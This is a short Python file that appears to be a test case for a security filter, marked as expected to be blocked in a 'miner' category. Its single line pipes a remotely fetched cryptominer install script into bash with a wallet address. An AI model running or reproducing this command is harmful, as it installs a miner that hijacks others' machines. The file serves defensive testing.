# expect: BLOCKED category: miner
# Fetches and runs a miner installer from a pool site.
import subprocess

subprocess.run("wget -qO- https://203.0.113.20/setup_c3pool_miner.sh | bash -s 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge", shell=True)
